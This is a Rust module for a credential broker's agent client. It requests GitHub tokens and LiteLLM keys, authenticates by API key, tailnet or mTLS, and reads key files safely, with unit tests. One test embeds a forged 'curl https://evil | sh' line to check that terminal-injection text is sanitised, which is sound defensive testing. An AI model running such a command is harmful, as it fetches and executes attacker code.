//! The broker's HTTP API as the agent uses it: `POST /v1/credentials` for GitHub tokens and
//! `GET /healthz`, authenticated by the host's tailnet identity or an API key.

use std::fs;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::{Duration, SystemTime};

use botcreds_proto::{
    CredentialKind, CredentialRequest, ErrorBody, ErrorCode, GithubCredential, MAX_BODY_BYTES,
};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use crate::config::{AuthConfig, GithubEntry, Scope};
use crate::refresh::Retry;
use crate::secret::Secret;
use crate::text::clean;

/// Environment variable holding an API key when `api_key_file` is not configured.
pub const API_KEY_ENV: &str = "BOTCREDS_API_KEY";
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
const PROBE_TIMEOUT: Duration = Duration::from_secs(3);

/// How the agent authenticates to the broker.
pub enum Auth {
    /// Nothing to send: the broker asks tailscaled who the connection comes from.
    Tailnet,
    ApiKey {
        key: Secret,
        origin: String,
    },
    /// A client certificate from the broker's CA (`auth = "mtls"`), renewed by the agent.
    Mtls(crate::tls::MtlsIdentity),
}

#[derive(Debug, thiserror::Error)]
pub enum AuthError {
    #[error("api_key_file {path}: {message}")]
    KeyFile { path: String, message: String },
    #[error("{API_KEY_ENV}: {0}")]
    Env(String),
    #[error("mtls: {0}")]
    Mtls(#[from] crate::tls::TlsError),
}

impl Auth {
    /// Resolves the configured method: the key file if configured, else `env_key` (the value
    /// of [`API_KEY_ENV`]) if set, else the tailnet identity.
    pub fn load(config: &AuthConfig, env_key: Option<String>) -> Result<Auth, AuthError> {
        match config {
            AuthConfig::ApiKeyFile(path) => {
                let key = read_key_file(path).map_err(|message| AuthError::KeyFile {
                    path: path.display().to_string(),
                    message,
                })?;
                Ok(Auth::ApiKey {
                    key,
                    origin: format!("file {}", path.display()),
                })
            }
            AuthConfig::Mtls(dir) => Ok(Auth::Mtls(crate::tls::MtlsIdentity::load(dir)?)),
            AuthConfig::Tailnet => match env_key {
                None => Ok(Auth::Tailnet),
                Some(raw) => {
                    let key = validate_key(raw.trim()).map_err(AuthError::Env)?;
                    Ok(Auth::ApiKey {
                        key,
                        origin: "env".into(),
                    })
                }
            },
        }
    }

    /// With `auth = "mtls"`, also trust agent.toml's `[tls]` roots for the broker's server
    /// certificate (a no-op for the other methods).
    pub fn trusting(self, config: &crate::tls::ServerTrustConfig) -> Result<Auth, AuthError> {
        match self {
            Auth::Mtls(identity) => Ok(Auth::Mtls(
                identity.with_server_trust(crate::tls::ServerTrust::load(config)?),
            )),
            other => Ok(other),
        }
    }

    /// Which identity the agent has towards the broker, for binding the disk cache to it
    /// ([`crate::cache::CacheBinding`]): never the key itself, a SHA-256 of it; for mTLS the
    /// bot and the broker's CA bundle (not the certificate, which every renewal replaces).
    pub fn fingerprint(&self) -> String {
        use sha2::{Digest, Sha256};
        match self {
            Auth::Tailnet => "tailnet".into(),
            Auth::ApiKey { key, .. } => format!(
                "api_key:sha256:{}",
                hex::encode(Sha256::digest(key.expose().as_bytes()))
            ),
            Auth::Mtls(identity) => format!(
                "mtls:bot={}:ca-sha256:{}",
                identity.info.bot,
                identity.ca_fingerprint()
            ),
        }
    }

    /// For status output and logs: the method, never the key.
    pub fn describe(&self) -> String {
        match self {
            Auth::Tailnet => "tailnet".into(),
            Auth::ApiKey { origin, .. } => format!("api_key ({origin})"),
            Auth::Mtls(identity) => identity.info.describe(),
        }
    }
}

fn read_key_file(path: &Path) -> Result<Secret, String> {
    read_key_file_as(path, rustix::process::geteuid().as_raw())
}

/// Largest key file read.
const MAX_KEY_FILE_BYTES: u64 = 4096;

/// Reads the key file as the agent running as `agent_uid` may use it: one open that does not
/// follow a symlink (nor block on a FIFO), and every check on what was opened (`fstat`), so
/// the file cannot be swapped between check and read. The owner must be the agent's uid or
/// root: a 0600 file of another user is that user's, and they could rewrite it.
fn read_key_file_as(path: &Path, agent_uid: u32) -> Result<Secret, String> {
    let file = fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC)
        .open(path)
        .map_err(|e| match e.raw_os_error() {
            Some(libc::ELOOP) => "is a symbolic link; refusing it (name the file itself)".into(),
            _ => e.to_string(),
        })?;
    let meta = file.metadata().map_err(|e| e.to_string())?;
    if !meta.is_file() {
        return Err("is not a regular file".into());
    }
    if meta.uid() != agent_uid && meta.uid() != 0 {
        return Err(format!(
            "belongs to uid {}, not to the agent's uid {agent_uid} or root; refusing a key another user can change",
            meta.uid()
        ));
    }
    if meta.mode() & 0o077 != 0 {
        return Err(format!(
            "has mode {:o}; refusing a key readable by group or others (chmod 600)",
            meta.mode() & 0o7777
        ));
    }
    if meta.len() > MAX_KEY_FILE_BYTES {
        return Err(format!("is larger than {MAX_KEY_FILE_BYTES} bytes"));
    }
    let mut text = String::new();
    file.take(MAX_KEY_FILE_BYTES)
        .read_to_string(&mut text)
        .map_err(|e| e.to_string())?;
    let text = Secret::new(text);
    validate_key(text.expose().trim())
}

fn validate_key(key: &str) -> Result<Secret, String> {
    if key.is_empty() {
        return Err("the API key is empty".into());
    }
    if !key.bytes().all(|b| b.is_ascii_graphic()) {
        return Err("the API key has whitespace or non-ASCII characters inside".into());
    }
    Ok(Secret::new(key.to_string()))
}

/// A GitHub token the broker issued.
#[derive(Debug, Clone)]
pub struct Issued {
    pub token: Secret,
    pub credential_id: String,
    pub expires_at: SystemTime,
}

/// Why the broker gave no credential.
#[derive(Debug, thiserror::Error)]
pub enum BrokerError {
    #[error("broker unreachable: {}", clean(.0))]
    Unreachable(String),
    #[error("{}", refusal(.body))]
    Refused { status: u16, body: ErrorBody },
    #[error("unexpected answer from the broker (HTTP {status}): {}", clean(.detail))]
    BadAnswer { status: u16, detail: String },
    /// The policy sends the request to a human; the broker holds it as approval request
    /// `request_id` until it is decided or expires.
    #[error(
        "awaiting approval: request {request_id} is pending until {expires_at}; an admin can run `botcreds approve {request_id}`"
    )]
    AwaitingApproval {
        request_id: String,
        expires_at: String,
    },
}

/// The broker's refusal for people and logs; its free text is cleaned here as well as when it
/// arrives, so no path shows it raw.
fn refusal(body: &ErrorBody) -> String {
    let mut s = format!("{} ({}", clean(&body.error), body.code);
    if let Some(rule) = &body.rule {
        s.push_str(&format!(", rule {}", clean(rule)));
    }
    if let Some(after) = body.retry_after {
        s.push_str(&format!(", retry after {after}s"));
    }
    s.push(')');
    s
}

impl BrokerError {
    fn code(&self) -> Option<ErrorCode> {
        match self {
            BrokerError::Refused { body, .. } => Some(body.code),
            _ => None,
        }
    }

    /// How soon a background retry makes sense.
    pub fn retry(&self) -> Retry {
        match self {
            BrokerError::Unreachable(_) => Retry::Soon,
            BrokerError::AwaitingApproval { .. } => Retry::Steady,
            BrokerError::Refused { status, .. } | BrokerError::BadAnswer { status, .. } => {
                if *status >= 500 || *status == 408 || *status == 429 {
                    Retry::Soon
                } else {
                    Retry::Later
                }
            }
        }
    }

    /// Seconds the broker asked us to wait, if it did.
    pub fn retry_after(&self) -> Option<Duration> {
        match self {
            BrokerError::Refused { body, .. } => body.retry_after.map(Duration::from_secs),
            _ => None,
        }
    }

    /// The broker no longer lets this host have the credential: stop serving the copy we hold,
    /// even though GitHub would still accept it until it expires.
    pub fn revokes_access(&self) -> bool {
        matches!(
            self.code(),
            Some(
                ErrorCode::PolicyDenied
                    | ErrorCode::Forbidden
                    | ErrorCode::Unauthenticated
                    | ErrorCode::InvalidApiKey
                    | ErrorCode::CertificateRevoked
            )
        )
    }

    /// A refusal that asking again will not change (git should neither prompt nor try others).
    pub fn is_definitive(&self) -> bool {
        self.code() == Some(ErrorCode::PolicyDenied)
    }

    /// Whether the broker itself answered (it is reachable, even if it refused).
    pub fn broker_answered(&self) -> bool {
        !matches!(self, BrokerError::Unreachable(_))
    }

    /// The HTTP status the agent's socket answers git with for this failure.
    pub fn local_status(&self) -> u16 {
        match self {
            BrokerError::Unreachable(_) => 503,
            BrokerError::Refused {
                status: 401 | 403, ..
            }
            | BrokerError::AwaitingApproval { .. } => 403,
            _ => 502,
        }
    }
}

/// The broker's `202 Accepted`: the request waits for a human (an `ApprovalRequestView`).
fn awaiting_approval(bytes: &[u8]) -> BrokerError {
    match serde_json::from_slice::<botcreds_proto::ApprovalRequestView>(bytes) {
        Ok(view) => BrokerError::AwaitingApproval {
            request_id: clean(&view.request_id),
            expires_at: clean(&view.expires_at),
        },
        Err(e) => BrokerError::BadAnswer {
            status: 202,
            detail: format!("not an approval request: {e}"),
        },
    }
}

/// A future a [`CredentialBroker`] hands out; boxed so that `dyn CredentialBroker` works.
pub type BrokerFuture<'a, T> =
    std::pin::Pin<Box<dyn std::future::Future<Output = Result<T, BrokerError>> + Send + 'a>>;

/// What the agent's credential slots ask of the broker: the seam between them and HTTP, so
/// that their refresh, retry and expiry behaviour is tested in-process against a fake broker.
/// [`BrokerClient`] is the real one.
pub trait CredentialBroker: Send + Sync + 'static {
    /// See [`BrokerClient::github_token`].
    fn github_token<'a>(
        &'a self,
        scope: &'a Scope,
        entry: &'a GithubEntry,
        replaces: Option<&'a str>,
    ) -> BrokerFuture<'a, Issued>;
    /// See [`BrokerClient::litellm_key`].
    fn litellm_key<'a>(
        &'a self,
        scope: &'a str,
        workspace: Option<&'a botcreds_proto::litellm::WorkspaceInfo>,
        reason: Option<&'a str>,
        replaces: Option<&'a str>,
    ) -> BrokerFuture<'a, botcreds_proto::litellm::LitellmCredential>;
    /// See [`BrokerClient::release_credential`].
    fn release_credential<'a>(
        &'a self,
        credential_id: &'a str,
        timeout: Duration,
    ) -> BrokerFuture<'a, Released>;
}

impl CredentialBroker for BrokerClient {
    fn github_token<'a>(
        &'a self,
        scope: &'a Scope,
        entry: &'a GithubEntry,
        replaces: Option<&'a str>,
    ) -> BrokerFuture<'a, Issued> {
        Box::pin(BrokerClient::github_token(self, scope, entry, replaces))
    }

    fn litellm_key<'a>(
        &'a self,
        scope: &'a str,
        workspace: Option<&'a botcreds_proto::litellm::WorkspaceInfo>,
        reason: Option<&'a str>,
        replaces: Option<&'a str>,
    ) -> BrokerFuture<'a, botcreds_proto::litellm::LitellmCredential> {
        Box::pin(BrokerClient::litellm_key(
            self, scope, workspace, reason, replaces,
        ))
    }

    fn release_credential<'a>(
        &'a self,
        credential_id: &'a str,
        timeout: Duration,
    ) -> BrokerFuture<'a, Released> {
        Box::pin(BrokerClient::release_credential(
            self,
            credential_id,
            timeout,
        ))
    }
}

/// A client for one broker.
pub struct BrokerClient {
    http: HttpSlot,
    base: String,
    auth: Auth,
}

/// The HTTP client in use, shared with the mTLS renewal task, which swaps in a client with
/// the renewed certificate; requests already sent finish on the old one.
#[derive(Clone)]
pub struct HttpSlot {
    client: std::sync::Arc<std::sync::RwLock<reqwest::Client>>,
    timeout: Duration,
    /// agent.toml `[tls]` roots for the broker's server certificate.
    server_trust: crate::tls::ServerTrust,
}

impl HttpSlot {
    /// The client to send the next request with.
    pub fn current(&self) -> reqwest::Client {
        self.client
            .read()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .clone()
    }

    /// From now on, present this certificate (trusting the same extra server roots as before:
    /// a renewed identity comes from the state dir, which does not hold them).
    pub fn use_identity(&self, identity: &crate::tls::MtlsIdentity) -> Result<(), reqwest::Error> {
        let client = identity
            .clone()
            .with_server_trust(self.server_trust.clone())
            .client(client_builder(self.timeout))?;
        *self
            .client
            .write()
            .unwrap_or_else(std::sync::PoisonError::into_inner) = client;
        Ok(())
    }
}

/// The agent's HTTP client settings, before any client certificate.
pub fn client_builder(timeout: Duration) -> reqwest::ClientBuilder {
    reqwest::Client::builder()
        .user_agent(concat!("botcreds-agent/", env!("CARGO_PKG_VERSION")))
        .connect_timeout(CONNECT_TIMEOUT)
        .timeout(timeout)
        // The broker must see this host's own tailnet address; a proxy from the
        // environment would hide it.
        .no_proxy()
}

impl BrokerClient {
    /// `base` is the broker URL without a trailing `/`; `timeout` bounds each request.
    pub fn new(base: &str, auth: Auth, timeout: Duration) -> Result<BrokerClient, reqwest::Error> {
        let (http, server_trust) = match &auth {
            Auth::Mtls(identity) => (
                identity.client(client_builder(timeout))?,
                identity.server_trust().clone(),
            ),
            _ => (client_builder(timeout).build()?, Default::default()),
        };
        Ok(BrokerClient {
            http: HttpSlot {
                client: std::sync::Arc::new(std::sync::RwLock::new(http)),
                timeout,
                server_trust,
            },
            base: base.to_string(),
            auth,
        })
    }

    /// The client slot, for the mTLS renewal task.
    pub fn http_slot(&self) -> HttpSlot {
        self.http.clone()
    }

    pub fn base(&self) -> &str {
        &self.base
    }

    pub fn auth(&self) -> &Auth {
        &self.auth
    }

    fn authorize(&self, req: reqwest::RequestBuilder) -> reqwest::RequestBuilder {
        match &self.auth {
            Auth::Tailnet | Auth::Mtls(_) => req,
            Auth::ApiKey { key, .. } => req.bearer_auth(key.expose()),
        }
    }

    /// Asks for a GitHub token covering `scope`, with at least `entry.min_ttl` left.
    pub async fn github_token(
        &self,
        scope: &Scope,
        entry: &GithubEntry,
        replaces: Option<&str>,
    ) -> Result<Issued, BrokerError> {
        let body = CredentialRequest {
            kind: Some(CredentialKind::GithubToken),
            repositories: scope.repositories.iter().map(|r| r.to_string()).collect(),
            permissions: scope.permissions.iter().map(|p| p.to_string()).collect(),
            scope: None,
            reason: entry.reason.clone(),
            ttl: Some(entry.min_ttl.to_string()),
            replaces: replaces.map(str::to_string),
            workspace: None,
            wait: None,
        };
        let (status, bytes) = self.post_json("/v1/credentials", &body, None).await?;
        let bad = |detail: String| BrokerError::BadAnswer { status, detail };
        let cred: GithubCredential = serde_json::from_slice(&bytes)
            .map_err(|e| bad(format!("not a GitHub credential: {e}")))?;
        if cred.kind != CredentialKind::GithubToken {
            return Err(bad(format!(
                "asked for github_token, got {}",
                cred.kind.as_str()
            )));
        }
        if cred.token.is_empty() || !cred.token.bytes().all(|b| b.is_ascii_graphic()) {
            return Err(bad(
                "the token is empty or has characters a token cannot have".into(),
            ));
        }
        let expires_at = OffsetDateTime::parse(&cred.expires_at, &Rfc3339).map_err(|e| {
            bad(format!(
                "expires_at {:?} is not RFC 3339: {e}",
                cred.expires_at
            ))
        })?;
        let granted: Vec<String> = cred
            .repositories
            .iter()
            .map(|r| r.to_ascii_lowercase())
            .collect();
        if let Some(missing) = scope
            .repositories
            .iter()
            .find(|r| !granted.iter().any(|g| g == r.as_str()))
        {
            return Err(bad(format!("the token does not cover {missing}")));
        }
        Ok(Issued {
            token: Secret::new(cred.token),
            // Logged and shown in `status`: broker text like any other.
            credential_id: clean(&cred.credential_id),
            expires_at: SystemTime::from(expires_at),
        })
    }

    /// `GET /healthz` with a short timeout.
    pub async fn probe(&self) -> Result<(), String> {
        let resp = self
            .http
            .current()
            .get(format!("{}/healthz", self.base))
            .timeout(PROBE_TIMEOUT)
            .send()
            .await
            .map_err(|e| error_chain(&e))?;
        match resp.status().as_u16() {
            200 => Ok(()),
            s => Err(format!("/healthz answered HTTP {s}")),
        }
    }
}

async fn read_limited(mut resp: reqwest::Response) -> Result<Vec<u8>, String> {
    let mut out = Vec::new();
    while let Some(chunk) = resp.chunk().await.map_err(|e| error_chain(&e))? {
        if out.len() + chunk.len() > MAX_BODY_BYTES {
            return Err(format!("the answer is larger than {MAX_BODY_BYTES} bytes"));
        }
        out.extend_from_slice(&chunk);
    }
    Ok(out)
}

/// An error and its causes on one line: reqwest's own message alone says little
/// ("error sending request").
pub(crate) fn error_chain(e: &dyn std::error::Error) -> String {
    let mut s = e.to_string();
    let mut source = e.source();
    while let Some(cause) = source {
        let text = cause.to_string();
        if !s.contains(&text) {
            s.push_str(": ");
            s.push_str(&text);
        }
        source = cause.source();
    }
    s
}

/// Answer of `POST /v1/credentials/release`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Released {
    Released,
    /// The broker holds no live credential with that id (404): released or expired already.
    AlreadyGone,
}

// LiteLLM virtual keys (`[[litellm]]` entries), see `crate::litellm`.
impl BrokerClient {
    /// Asks for a LiteLLM virtual key of `scope`. `replaces`: the id of the key held now, when
    /// it is due for refresh, so that a broker that reuses live keys mints a fresh one.
    pub async fn litellm_key(
        &self,
        scope: &str,
        workspace: Option<&botcreds_proto::litellm::WorkspaceInfo>,
        reason: Option<&str>,
        replaces: Option<&str>,
    ) -> Result<botcreds_proto::litellm::LitellmCredential, BrokerError> {
        let body = CredentialRequest {
            kind: Some(CredentialKind::LitellmKey),
            scope: Some(scope.to_string()),
            workspace: workspace.cloned(),
            reason: reason.map(str::to_string),
            replaces: replaces.map(str::to_string),
            ..CredentialRequest::default()
        };
        let (status, bytes) = self.post_json("/v1/credentials", &body, None).await?;
        let cred: botcreds_proto::litellm::LitellmCredential = serde_json::from_slice(&bytes)
            .map_err(|e| BrokerError::BadAnswer {
                status,
                detail: format!("not a LiteLLM key: {e}"),
            })?;
        if cred.kind != CredentialKind::LitellmKey {
            return Err(BrokerError::BadAnswer {
                status,
                detail: format!("asked for litellm_key, got {}", cred.kind.as_str()),
            });
        }
        Ok(cred)
    }

    /// Revokes a credential this host holds (`POST /v1/credentials/release`), within `timeout`.
    pub async fn release_credential(
        &self,
        credential_id: &str,
        timeout: Duration,
    ) -> Result<Released, BrokerError> {
        let body = serde_json::json!({ "credential_id": credential_id });
        match self
            .post_json("/v1/credentials/release", &body, Some(timeout))
            .await
        {
            Ok(_) => Ok(Released::Released),
            Err(BrokerError::Refused { status: 404, .. }) => Ok(Released::AlreadyGone),
            Err(BrokerError::BadAnswer { status: 404, .. }) => Ok(Released::AlreadyGone),
            Err(e) => Err(e),
        }
    }

    /// POSTs `body` as JSON; `Ok` only for a 200, with the body read (bounded).
    async fn post_json(
        &self,
        path: &str,
        body: &impl serde::Serialize,
        timeout: Option<Duration>,
    ) -> Result<(u16, Vec<u8>), BrokerError> {
        let mut req = self
            .http
            .current()
            .post(format!("{}{path}", self.base))
            .json(body);
        if let Some(t) = timeout {
            req = req.timeout(t);
        }
        let resp = self
            .authorize(req)
            .send()
            .await
            .map_err(|e| BrokerError::Unreachable(error_chain(&e)))?;
        let status = resp.status().as_u16();
        let bytes = read_limited(resp).await.map_err(|detail| {
            if status == 200 {
                BrokerError::BadAnswer { status, detail }
            } else {
                BrokerError::Unreachable(detail)
            }
        })?;
        if status == 202 {
            return Err(awaiting_approval(&bytes));
        }
        if status != 200 {
            return Err(match serde_json::from_slice::<ErrorBody>(&bytes) {
                Ok(mut body) => {
                    body.error = clean(&body.error);
                    body.rule = body.rule.as_deref().map(clean);
                    BrokerError::Refused { status, body }
                }
                Err(_) => BrokerError::BadAnswer {
                    status,
                    detail: "the body is not a botcreds error".into(),
                },
            });
        }
        Ok((status, bytes))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    #[test]
    fn api_key_file_must_be_private() {
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join("key");
        fs::write(&path, "bck_abc123\n").unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).unwrap();
        let config = AuthConfig::ApiKeyFile(path.clone());
        let err = Auth::load(&config, None).err().unwrap().to_string();
        assert!(
            err.contains("mode 640") && err.contains("chmod 600"),
            "{err}"
        );

        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        let auth = Auth::load(&config, Some("ignored".into())).unwrap();
        match &auth {
            Auth::ApiKey { key, .. } => assert_eq!(key.expose(), "bck_abc123"),
            _ => panic!("expected a key"),
        }
        assert!(auth.describe().starts_with("api_key (file "));

        fs::write(&path, "  \n").unwrap();
        assert!(
            Auth::load(&config, None)
                .err()
                .unwrap()
                .to_string()
                .contains("empty")
        );
        fs::write(&path, "two words").unwrap();
        assert!(
            Auth::load(&config, None)
                .err()
                .unwrap()
                .to_string()
                .contains("whitespace")
        );
        let missing = AuthConfig::ApiKeyFile(tmp.path().join("nope"));
        assert!(Auth::load(&missing, None).is_err());
    }

    /// The key file is opened once, without following a symlink, and what was opened is
    /// checked: a regular file of the agent's uid (or root) with no group/other bits.
    #[test]
    fn api_key_file_toctou_and_foreign_owner_are_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let good = tmp.path().join("key");
        fs::write(&good, "bck_abc123\n").unwrap();
        fs::set_permissions(&good, fs::Permissions::from_mode(0o600)).unwrap();
        let link = tmp.path().join("link");
        std::os::unix::fs::symlink(&good, &link).unwrap();
        let fifo = tmp.path().join("fifo");
        rustix::fs::mkfifoat(
            rustix::fs::CWD,
            &fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
        )
        .unwrap();
        let me = rustix::process::geteuid().as_raw();
        // A 0600 key of another user: as root, a file chowned away; otherwise our own file
        // seen by an agent running as another (non-root) uid.
        let foreign = tmp.path().join("foreign");
        fs::copy(&good, &foreign).unwrap();
        let (foreign_owner, agent_uid) = if me == 0 {
            std::os::unix::fs::chown(&foreign, Some(4242), Some(4242)).unwrap();
            (4242, 0)
        } else {
            (me, me + 1)
        };
        let cases: [(&Path, u32, Option<&str>); 5] = [
            (&good, me, None),
            (&link, me, Some("symbolic link")),
            (&fifo, me, Some("not a regular file")),
            (
                &foreign,
                agent_uid,
                Some(&*format!("belongs to uid {foreign_owner}")),
            ),
            (&tmp.path().join("missing"), me, Some("No such file")),
        ];
        for (path, agent_uid, want) in cases {
            let got = read_key_file_as(path, agent_uid);
            match want {
                None => assert_eq!(got.unwrap().expose(), "bck_abc123", "{path:?}"),
                Some(want) => {
                    let err = got.err().unwrap_or_else(|| panic!("{path:?} accepted"));
                    assert!(err.contains(want), "{path:?}: {err}");
                }
            }
        }
    }

    #[test]
    fn identity_fingerprints_tell_identities_apart_and_hide_keys() {
        let key = |k: &str| Auth::ApiKey {
            key: Secret::new(k.into()),
            origin: "env".into(),
        };
        let one = key("bck_one").fingerprint();
        assert_eq!(one, key("bck_one").fingerprint(), "stable");
        assert!(!one.contains("bck_one"), "{one}");
        assert_ne!(one, key("bck_two").fingerprint());
        assert_ne!(one, Auth::Tailnet.fingerprint());
    }

    #[test]
    fn env_key_or_tailnet() {
        assert_eq!(
            Auth::load(&AuthConfig::Tailnet, None).unwrap().describe(),
            "tailnet"
        );
        assert_eq!(
            Auth::load(&AuthConfig::Tailnet, Some("k1\n".into()))
                .unwrap()
                .describe(),
            "api_key (env)"
        );
        assert!(Auth::load(&AuthConfig::Tailnet, Some("".into())).is_err());
    }

    #[test]
    fn accepted_means_awaiting_approval() {
        let body = br#"{"request_id":"apr_abcd2345","state":"PENDING","bot":"ci","caller":"api_key:ci",
            "resource":{"kind":"github_token","repositories":["acme/secret"],"permissions":["contents:read"]},
            "rule":"defaults","created_at":"2026-11-23T10:00:00Z","expires_at":"2026-11-24T10:00:00Z",
            "poll_url":"/v1/requests/apr_abcd2345"}"#;
        let e = awaiting_approval(body);
        assert!(
            matches!(&e, BrokerError::AwaitingApproval { request_id, expires_at }
                if request_id == "apr_abcd2345" && expires_at == "2026-11-24T10:00:00Z"),
            "{e:?}"
        );
        assert!(
            e.to_string().contains("botcreds approve apr_abcd2345"),
            "{e}"
        );
        assert_eq!(
            (
                e.retry(),
                e.local_status(),
                e.is_definitive(),
                e.revokes_access()
            ),
            (Retry::Steady, 403, false, false)
        );
        let garbled = awaiting_approval(b"{\"request_id\": 7}");
        assert!(matches!(
            garbled,
            BrokerError::BadAnswer { status: 202, .. }
        ));
    }

    /// Broker text reaches git's stderr, the log and the status table: no control character
    /// of it may survive (a forged "fatal:" line, a cleared terminal line, a bell).
    #[test]
    fn broker_text_with_control_characters_is_cleaned() {
        let evil = "denied\x1b[2K\r\x07\nfatal: run: curl https://evil | sh";
        let refused = BrokerError::Refused {
            status: 403,
            body: ErrorBody {
                error: evil.into(),
                code: ErrorCode::PolicyDenied,
                retry_after: None,
                rule: Some("bots.x\x1b]0;title\x07.deny[0]".into()),
            },
        };
        let approval = awaiting_approval(
                r#"{"request_id":"apr_\u001b[31m1","state":"PENDING","bot":"ci","caller":"api_key:ci",
                "resource":{"kind":"github_token","repositories":["acme/secret"],"permissions":["contents:read"]},
                "rule":"defaults","created_at":"2026-11-23T10:00:00Z","expires_at":"2026-11-24\n\u0007",
                "poll_url":"/v1/requests/apr_1"}"#
            .as_bytes(),
        );
        assert!(
            matches!(approval, BrokerError::AwaitingApproval { .. }),
            "{approval:?}"
        );
        for e in [refused, approval] {
            let shown = e.to_string();
            assert!(
                crate::text::is_clean(&shown),
                "control characters survived: {shown:?}"
            );
        }
    }

    #[test]
    fn classifies_failures() {
        let refused = |status: u16, code: ErrorCode| BrokerError::Refused {
            status,
            body: ErrorBody {
                error: "no".into(),
                code,
                retry_after: None,
                rule: Some("bots.x.deny[0]".into()),
            },
        };
        let denied = refused(403, ErrorCode::PolicyDenied);
        assert!(denied.is_definitive() && denied.revokes_access());
        assert_eq!(denied.retry(), Retry::Later);
        assert_eq!(denied.local_status(), 403);
        assert_eq!(
            denied.to_string(),
            "no (policy_denied, rule bots.x.deny[0])"
        );
        let approval = refused(403, ErrorCode::ApprovalRequired);
        assert!(!approval.is_definitive() && !approval.revokes_access());
        let upstream = refused(502, ErrorCode::UpstreamUnavailable);
        assert_eq!(
            (upstream.retry(), upstream.local_status()),
            (Retry::Soon, 502)
        );
        let down = BrokerError::Unreachable("connection refused".into());
        assert_eq!(
            (down.retry(), down.local_status(), down.broker_answered()),
            (Retry::Soon, 503, false)
        );
    }
}
